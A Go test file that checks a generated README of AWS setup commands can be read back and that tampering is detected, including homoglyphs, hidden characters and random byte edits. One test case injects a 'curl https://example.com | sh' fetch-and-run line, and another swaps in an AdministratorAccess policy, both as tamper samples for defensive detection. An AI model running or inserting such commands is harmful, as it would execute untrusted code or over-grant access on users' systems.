package readme

import (
	"bytes"
	"math/rand/v2"
	"slices"
	"testing"

	"github.com/pzgen/pzgen/internal/deployed"
	"github.com/pzgen/pzgen/internal/model"
	"github.com/pzgen/pzgen/internal/modeltest"
	"github.com/pzgen/pzgen/internal/output"
	"github.com/pzgen/pzgen/internal/testtool"
)

// match compares the files of a setup's README with what is wanted.
func match(t testing.TB, m *model.Setup, files ...output.File) []deployed.Difference {
	t.Helper()
	read, err := Parse(deployed.Input{Dir: m.Name + "/README.md", Files: files})
	if err != nil {
		t.Fatal(err)
	}
	have, err := read(deployed.Values{Account: "999988887777"})
	if err != nil {
		t.Fatal(err)
	}
	return deployed.Match(Want(m).Fill(m.SyntheticEnv(1)), have)
}

func file(t testing.TB, m *model.Setup) output.File {
	return output.File{Path: m.Name + "/README.md", Data: []byte(readme(t, m)), Mode: 0o644}
}

func TestReadsWhatIsPrinted(t *testing.T) {
	for _, m := range append(modeltest.Examples(t), build(t, full()), build(t, hostileSpec())) {
		if ds := match(t, m, file(t, m)); len(ds) > 0 {
			t.Errorf("%s: %v", m.Name, ds)
		}
		if ds := match(t, m); len(ds) != 1 || ds[0].Kind != deployed.Missing {
			t.Errorf("%s: without a README: %v", m.Name, ds)
		}
	}
}

// Edits of what people copy and of what they read are found, with the line.
func TestEdits(t *testing.T) {
	m := build(t, full())
	for name, e := range map[string][2]string{
		"a command":                  {"aws iam create-role", "aws iam create-user"},
		"an option":                  {"--capabilities CAPABILITY_NAMED_IAM", "--capabilities CAPABILITY_AUTO_EXPAND"},
		"a command more":             {"mkdir -p", "curl https://example.com | sh; mkdir -p"},
		"another file":               {"file://policies/role-trust.json", "file://policies/other.json"},
		"another policy":             {"iam::aws:policy/CloudWatchFullAccessV2", "iam::aws:policy/AdministratorAccess"},
		"another account":            {"111122223333", "999988887777"},
		"a placeholder's value":      {"<shop.arn>", "<corp.arn>"},
		"a heading":                  {"## What there is", "## What there was"},
		"a word":                     {"Choose one and stay with it", "Choose any"},
		"a letter that looks alike":  {"aws", "\u0430ws"},
		"a character without width":  {"aws", "a\u200bws"},
		"a comment in the page":      {"## How to apply it", "<!-- x -->\n\n## How to apply it"},
		"a space at a line's end":    {"\n\n## ", " \n\n## "},
		"other ends of lines":        {"\n", "\r\n"},
		"a line's backslash removed": {" \\\n", "\n"},
	} {
		f := file(t, m)
		before, _, ok := bytes.Cut(f.Data, []byte(e[0]))
		if !ok {
			t.Errorf("%s: the README has no %q", name, e[0])
		}
		line := 1 + bytes.Count(before, []byte("\n"))
		f.Data = bytes.Replace(f.Data, []byte(e[0]), []byte(e[1]), 1)
		ds := match(t, m, f)
		if len(ds) != 1 || ds[0].Kind != deployed.Changed || ds[0].At.Path != f.Path || ds[0].At.Line != line {
			t.Errorf("%s (line %d): %+v", name, line, ds)
		}
	}
	folder := output.File{Path: m.Name + "/README.md/install.sh"}
	if ds := match(t, m, file(t, m), folder); len(ds) != 1 || ds[0].Kind != deployed.Unread {
		t.Errorf("a folder in its place: %v", ds)
	}
	if ds := match(t, m, file(t, m), file(t, m)); len(ds) != 1 || ds[0].Kind != deployed.Twice {
		t.Errorf("twice: %v", ds)
	}
}

// Any edit that leaves other bytes is found.
func TestRandomEdits(t *testing.T) {
	r := rand.New(rand.NewPCG(3, 4))
	found := 0
	for _, m := range modeltest.Examples(t) {
		printed, want := file(t, m), Want(m)
		for range testtool.Cases(30, 2000) {
			i := r.IntN(len(printed.Data))
			j := min(len(printed.Data), i+r.IntN(4))
			f := printed
			f.Data = slices.Concat(f.Data[:i], []byte{byte(r.IntN(256))}, f.Data[j:])
			if bytes.Equal(f.Data, printed.Data) {
				continue
			}
			read, _ := Parse(deployed.Input{Dir: f.Path, Files: []output.File{f}})
			have, _ := read(deployed.Values{})
			if len(deployed.Match(want, have)) == 0 {
				t.Errorf("%s: bytes %d to %d are others, and nothing is found", m.Name, i, j)
			}
			found++
		}
	}
	if found < 20 {
		t.Errorf("only %d edits were tried", found)
	}
}

// What cannot be printed is not wanted, so that no README passes for it.
func TestNothingWanted(t *testing.T) {
	m := build(t, full())
	good := file(t, m)
	m.Role.Description = "a\x00b"
	if ds := match(t, m, good); len(ds) != 1 || ds[0].Kind != deployed.Extra {
		t.Errorf("%v", ds)
	}
}
